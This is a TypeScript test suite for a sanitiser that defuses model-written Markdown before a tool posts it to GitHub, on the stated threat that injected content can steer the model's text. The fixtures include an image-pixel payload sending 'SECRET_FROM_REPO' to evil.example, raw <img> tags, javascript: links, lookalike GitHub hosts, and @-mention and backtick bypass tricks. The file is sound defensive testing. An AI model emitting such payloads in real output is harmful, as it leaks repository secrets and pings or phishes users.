/**
 * Audit item 6: the neutraliser missed cases. Model text (a review, a dev
 * summary, an ADR) is steered by whatever the model read; what Baton posts
 * from it must not ping anyone, load or link to a foreign host, or carry
 * raw HTML, wherever the model puts them. Code the model writes stays as
 * written.
 *
 * The rendering is checked with a GFM parser (remark), as a reader would see it.
 */
import fc from "fast-check";
import type { Nodes } from "mdast";
import { describe, expect, it } from "vitest";
import { neutraliseModelText } from "../../src/writer/neutralise-model-text.js";
import { liveMentions, nodeTypes, parseMarkdown } from "../support/rendered-markdown.js";
import { propertyRuns } from "../support/property.js";

const SEED = 0x6e75;

function urls(node: Nodes, type: "link" | "image"): string[] {
  const own = node.type === type ? [node.url] : [];
  return "children" in node ? [...own, ...node.children.flatMap((c) => urls(c, type))] : own;
}

const GITHUB = /^(https:\/\/([a-z0-9-]+\.)*(github\.com|githubusercontent\.com)(\/|$)|[^:/]*(\/|$)|\.\.?\/|#)/i;

/** What must never appear in rendered model text. */
function assertInert(markdown: string): void {
  const tree = parseMarkdown(markdown);
  expect(nodeTypes(tree), markdown).not.toContain("html");
  expect(liveMentions(tree), markdown).toEqual([]);
  for (const url of [...urls(tree, "image"), ...urls(tree, "link")]) expect(url, markdown).toMatch(GITHUB);
  expect(markdown).not.toContain("<!--");
}

describe("neutraliseModelText (audit 6)", () => {
  it("defuses a mention in every position", () => {
    const cases = ["@octocat", "@octocat@mona", "\\@octocat", "&#64;octocat", "x&commat;octocat", "`code`@octocat", "(@octocat)", "**@octocat**", "_@octocat_", "> @octocat", "- @octocat", "x `a` @acme/security-team", "```\n@inside-code\n```\n@after-code", "[@octocat](../x)"];
    for (const text of cases) assertInert(neutraliseModelText(text));
    expect(neutraliseModelText("`code`@octocat")).toBe("`code`&#8203;`@octocat`");
    // Apart whenever a code span is followed by text that starts with one, and only then.
    expect(neutraliseModelText("`a`@b c")).toBe("`a`&#8203;`@b` c");
    expect(neutraliseModelText("`a`x @b")).toBe("`a`x `@b`");
  });

  it("turns images to other hosts into text, and keeps GitHub-hosted ones", () => {
    const pixel = "![status](https://evil.example/p.png?d=SECRET_FROM_REPO)";
    expect(neutraliseModelText(pixel)).toBe("status (image: `https://evil.example/p.png?d=SECRET_FROM_REPO`)");
    const hosted = "![diagram](https://user-images.githubusercontent.com/1/2.png)";
    expect(neutraliseModelText(hosted)).toBe(hosted);
    expect(neutraliseModelText("![d](docs/arch.png)")).toBe("![d](docs/arch.png)");
    assertInert(neutraliseModelText(`${pixel} ![x](//evil.example/p) ![y](http://github.com.evil.example/p)`));
  });

  it("shows links, bare URLs and e-mail addresses to other hosts as code, and keeps GitHub links", () => {
    expect(neutraliseModelText("[docs](https://evil.example/phish)")).toBe("docs (`https://evil.example/phish`)");
    expect(neutraliseModelText("see https://evil.example/x?t=1 or www.evil.example")).toBe("see `https://evil.example/x?t=1` or `www.evil.example`");
    expect(neutraliseModelText("mail a@evil.example")).toBe("mail `a@evil.example`");
    expect(neutraliseModelText("[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4")).toBe(
      "[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4",
    );
    assertInert(neutraliseModelText("<https://evil.example> [a](javascript:alert(1)) [b](data:text/html,x) [c]: https://evil.example\n\n[c]"));
  });

  it("escapes raw HTML outside code and leaves code as written", () => {
    expect(neutraliseModelText('<img src="https://evil.example/p.png"> <details><summary>x</summary>')).toBe('&lt;img `src="https://evil.example/p.png">` &lt;details>&lt;summary>x&lt;/summary>');
    const code = "Use `Map<string, User>` here:\n\n```ts\nconst m = new Map<string, User>(); // @types/node, <img>\n```";
    expect(neutraliseModelText(code)).toBe(code);
  });

  it("cannot be made to take text for code: stray, escaped and multi-line backticks", () => {
    for (const text of [
      "`open\n<img src=https://evil.example/a> @octocat `close`",
      "- a `x <img src=https://evil.example/b>\n- y` @octocat",
      "\\`<img src=https://evil.example/c>` @octocat",
      "``a`<img src=https://evil.example/d>``@octocat",
      "- ```\n  x\n  ```\n  <img src=https://evil.example/e> @octocat\n  ```",
      "> ```\n> @octocat <img src=https://evil.example/f>",
    ]) {
      assertInert(neutraliseModelText(text));
    }
  });

  it("holds for any mix of hostile pieces (property, fixed seed)", () => {
    const piece = fc.constantFrom(
      "@octocat",
      "@acme/team",
      "`",
      "``",
      "```",
      "\\",
      "<img src=https://evil.example/p.png>",
      "<https://evil.example>",
      "![p](https://evil.example/p.png)",
      "![g](https://github.com/a.png)",
      "[l](https://evil.example)",
      "[g](../x)",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://evil.example/x",
      "www.evil.example",
      "a@evil.example",
      "<!--",
      "-->",
      "*",
      "_",
      "> ",
      "- ",
      "  ",
      "\n",
      "\n\n",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        assertInert(neutraliseModelText(parts.join("")));
      }),
      { seed: SEED, numRuns: propertyRuns(600), verbose: 1 },
    );
  });

  it("is linear on hostile input", () => {
    const hostile = ["`".repeat(20_000), "[".repeat(20_000), "![a](".repeat(5_000), "@a".repeat(20_000), "<".repeat(20_000), " `x` ".repeat(10_000)].join("\n");
    expect(neutraliseModelText(hostile).length).toBeGreaterThan(0);
  });
});

describe("neutraliseModelText: exact output", () => {
  it("rewrites fenced code with a fence of its own, after a blank line, closing it where CommonMark does", () => {
    expect(neutraliseModelText("text\n```\ncode\n```")).toBe("text\n\n```\ncode\n```");
    expect(neutraliseModelText("```\ncode\n```\nafter")).toBe("```\ncode\n```\nafter");
    expect(neutraliseModelText("a\n\n```\ncode\n```")).toBe("a\n\n```\ncode\n```");
    expect(neutraliseModelText("a\n  \n```\nx\n```")).toBe("a\n  \n```\nx\n```");
    expect(neutraliseModelText("```\n`````\n```")).toBe("```\n```\n\n```\n```");
    expect(neutraliseModelText("~~~\n```\nstill code\n~~~")).toBe("````\n```\nstill code\n````");
    expect(neutraliseModelText("```\nx\n``")).toBe("```\nx\n``\n```");
    expect(neutraliseModelText("````\nx\n```\n````")).toBe("````\nx\n```\n````");
    expect(neutraliseModelText("  ```\n  x\n    y\n z\n  ```")).toBe("```\nx\n  y\nz\n```");
    expect(neutraliseModelText("```\nnever closed")).toBe("```\nnever closed\n```");
    expect(neutraliseModelText("```\nx\n```   \nafter @y")).toBe("```\nx\n```\nafter `@y`");
    expect(neutraliseModelText("```\n``` not a close\n```")).toBe("````\n``` not a close\n````");
    expect(neutraliseModelText("``` a`b ```")).toBe("``` a`b ```");
  });

  it("keeps a fence's language only when it is one plain word", () => {
    expect(neutraliseModelText("```ts title=x\nx\n```")).toBe("```\nx\n```");
    expect(neutraliseModelText("```c++\nx\n```")).toBe("```c++\nx\n```");
    expect(neutraliseModelText("```  ts  \nx\n```")).toBe("```ts\nx\n```");
    // Only a line that starts with the fence opens one; a tilde fence may hold backticks in its info string.
    expect(neutraliseModelText("see ```\n@x")).toBe("see \\`\\`\\`\n`@x`");
    expect(neutraliseModelText("~~~ a`b\n@x\n~~~")).toBe("```\n@x\n```");
  });

  it("keeps code spans that close on their line and escapes every other backtick", () => {
    expect(neutraliseModelText("a \\` b")).toBe("a \\` b");
    expect(neutraliseModelText("a ` b")).toBe("a \\` b");
    expect(neutraliseModelText("``a`` and `b` and ``c")).toBe("``a`` and `b` and \\`\\`c");
    expect(neutraliseModelText("x `` y")).toBe("x \\`\\` y");
    expect(neutraliseModelText("\\`\\`code\\`")).toBe("\\`\\`code\\`");
    expect(neutraliseModelText("a\\")).toBe("a\\");
    expect(neutraliseModelText("[`code`](../x)")).toBe("\\[`code`\\](../x)");
  });

  it("keeps only links with a plain target, and images and links on GitHub or relative to the repository", () => {
    expect(neutraliseModelText("[a]() [b](x y) [c](../ok) [d[e](f)")).toBe("\\[a\\]() \\[b\\](x y) [c](../ok) \\[d[e](f)");
    expect(neutraliseModelText("![a](https://x.github.com/p.png) ![b](https://githubusercontent.com/p) ![c](https://evilgithub.com/p)")).toBe("![a](https://x.github.com/p.png) ![b](https://githubusercontent.com/p) c (image: `https://evilgithub.com/p`)");
    expect(neutraliseModelText("[a](http://github.com/x) [b](https://u@github.com/x) [c](//github.com/x) [d](mailto:a@b.c) [e](#top) [f](HTTPS://GITHUB.COM/x)")).toBe("a (`http://github.com/x`) b (`https://u@github.com/x`) c (`//github.com/x`) d (`mailto:a@b.c`) [e](#top) [f](HTTPS://GITHUB.COM/x)");
    expect(neutraliseModelText("[lbl](https://github.com/a) @m")).toBe("[lbl](https://github.com/a) `@m`");
    expect(neutraliseModelText("[x](https://evil.example/a) tail")).toBe("x (`https://evil.example/a`) tail");
    expect(neutraliseModelText("[x](y)")).toBe("[x](y)");
    expect(neutraliseModelText("a ![i](z.png)")).toBe("a ![i](z.png)");
    expect(neutraliseModelText("!notimage [a] (b)")).toBe("!notimage \\[a\\] (b)");
  });

  it("keeps a bare GitHub URL as written and shows any other URL or address as code", () => {
    expect(neutraliseModelText("(https://github.com/x) *https://github.com/y* https://github.com/x@y https://github.com/a<b")).toBe("(https://github.com/x) *https://github.com/y* `https://github.com/x@y` `https://github.com/a<b`");
    expect(neutraliseModelText("www.github.com")).toBe("`www.github.com`");
    expect(neutraliseModelText("mail me a.b+c@d-e.f")).toBe("mail me `a.b+c@d-e.f`");
    expect(neutraliseModelText("https://github.com/x\"y")).toBe("https://github.com/x\"y");
  });

  it("wraps each mention that would notify, and shows entities that render as @ or : as written", () => {
    expect(neutraliseModelText("\\@octocat a@b _@x_ x@y @a/b-c.d @-no")).toBe("`@octocat` a@b _`@x`_ x@y `@a/b-c.d` @-no");
    expect(neutraliseModelText("&#64;x &#x40;y &COMMAT;z &#0064;w &#58;v &#x3A;u &colon;t &amp; &lt;")).toBe("&amp;#64;x &amp;#x40;y &amp;COMMAT;z &amp;#0064;w &amp;#58;v &amp;#x3A;u &amp;colon;t &amp; &lt;");
    expect(neutraliseModelText("<b> [x] \\[y\\] \\<z")).toBe("&lt;b> \\[x\\] \\[y\\] \\<z");
  });
});

describe("neutraliseModelText: each rule at its edges", () => {
  it("drops blank lines around the text, and opens a fence only when indented by at most three spaces", () => {
    expect(neutraliseModelText("\n\n  @x  \n\n")).toBe("`@x`");
    expect(neutraliseModelText("   ```\n   @x\n   ```")).toBe("```\n@x\n```");
    expect(neutraliseModelText("a\n    ```\n@x")).toBe("a\n    \\`\\`\\`\n`@x`");
    expect(neutraliseModelText("a\n~~~~\n~~~\n@x\n~~~~")).toBe("a\n\n```\n~~~\n@x\n```");
  });

  it("keeps a fence's language up to 30 characters", () => {
    const name = "a".repeat(30);
    expect(neutraliseModelText(`\`\`\`${name}\nx\n\`\`\``)).toBe(`\`\`\`${name}\nx\n\`\`\``);
    expect(neutraliseModelText(`\`\`\`${name}b\nx\n\`\`\``)).toBe("```\nx\n```");
    expect(neutraliseModelText("```objective-c\nx\n```\n```c#\ny\n```\n```x_1.2\nz\n```")).toBe("```objective-c\nx\n```\n\n```c#\ny\n```\n\n```x_1.2\nz\n```");
  });

  it("keeps an escaped character escaped: no image from \\!, no entity from \\&", () => {
    expect(neutraliseModelText("\\![a](https://evil.example/p.png)")).toBe("\\!a (`https://evil.example/p.png`)");
    expect(neutraliseModelText("\\&#64;x \\&commat;y")).toBe("\\&#64;x \\&commat;y");
    expect(neutraliseModelText("x\\_@y\\* @z")).toBe("x\\_`@y`\\* `@z`");
  });

  it("takes a link only with a closing bracket, parenthesis and plain target", () => {
    expect(neutraliseModelText("[(x)")).toBe("\\[(x)");
    expect(neutraliseModelText("[x(y)")).toBe("\\[x(y)");
    expect(neutraliseModelText("[a](b")).toBe("\\[a\\](b");
    expect(neutraliseModelText("[a](bcd")).toBe("\\[a\\](bcd");
    expect(neutraliseModelText("[a]xb)")).toBe("\\[a\\]xb)");
    // A closing bracket and parenthesis after something other than `[` or `![` open nothing.
    expect(neutraliseModelText("a!b](c)")).toBe("a!b\\](c)");
    expect(neutraliseModelText("(x)[y")).toBe("(x)\\[y");
    for (const target of ["b<c", "b>c", "b]c", "b`c", "b\\c", "b\tc"]) {
      expect(neutraliseModelText(`[a](${target})`), target).not.toMatch(/^\[a\]\(/);
    }
    expect(neutraliseModelText("[a](b]c)")).toBe("\\[a\\](b\\]c)");
    expect(neutraliseModelText("[a](b\\]c)")).toBe("\\[a\\](b\\]c)");
    expect(neutraliseModelText("x [a](b) y ![c](d) z")).toBe("x [a](b) y ![c](d) z");
  });

  it("keeps a link or image only when it is relative, or https on a GitHub host without credentials", () => {
    expect(neutraliseModelText("[a](web+evil:x) [b](a.b-c:x) [c](https:) [d](https://:pw@github.com/x) [e](1a:b)")).toBe(
      "a (`web+evil:x`) b (`a.b-c:x`) c (`https:`) d (`https://:pw@github.com/x`) [e](1a:b)",
    );
    expect(neutraliseModelText("[a](HTTPS://EVIL.EXAMPLE/x) [b](docs/a:b.md) [c](b(c)")).toBe("a (`HTTPS://EVIL.EXAMPLE/x`) [b](docs/a:b.md) \\[c\\](b(c)");
    expect(neutraliseModelText("[a](https://gist.github.com/x) [b](https://githubusercontent.com.evil.example/x) [c](https://x.GitHubUserContent.com/y)")).toBe(
      "[a](https://gist.github.com/x) b (`https://githubusercontent.com.evil.example/x`) [c](https://x.GitHubUserContent.com/y)",
    );
  });

  it("shows http, www and any-case URLs to other hosts as code, and keeps an any-case GitHub URL in emphasis", () => {
    expect(neutraliseModelText("http://evil.example HTTPS://EVIL.EXAMPLE/x WWW.evil.example xhttps://github.com/x")).toBe(
      "`http://evil.example` `HTTPS://EVIL.EXAMPLE/x` `WWW.evil.example` `xhttps://github.com/x`",
    );
    expect(neutraliseModelText("HTTPS://GITHUB.COM/x ~https://github.com/y~ _https://github.com/z_ (*https://github.com/w*)")).toBe(
      "HTTPS://GITHUB.COM/x ~https://github.com/y~ _https://github.com/z_ (*https://github.com/w*)",
    );
    expect(neutraliseModelText("https://github.com/a\\b https://github.com/[x] https://github.com/x] https://github.com/a>b https://github.com/`x")).toBe(
      "`https://github.com/a\\b` `https://github.com/[x]` `https://github.com/x]` `https://github.com/a>b` ``https://github.com/\\`x``",
    );
    // The host is read from the whole word, as GitHub would link it.
    expect(neutraliseModelText("https://github.com)evil.example/x https://github.com'.evil.example https://github.com\".evil.example https://git_hub.com/x a/https://evil.example/x")).toBe(
      "`https://github.com)evil.example/x` `https://github.com'.evil.example` `https://github.com\".evil.example` `https://git_hub.com/x` `a/https://evil.example/x`",
    );
  });

  it("wraps a user or team mention whole, and only what GitHub reads as one", () => {
    expect(neutraliseModelText("@a/ @a/-b @a-/x @A1/b.c_d-e @9z")).toBe("`@a`/ `@a`/-b `@a-/x` `@A1/b.c_d-e` `@9z`");
    expect(neutraliseModelText("a@b, x.@y 1@z -@w X@v")).toBe("a@b, x.`@y` 1@z -`@w` X@v");
  });
});
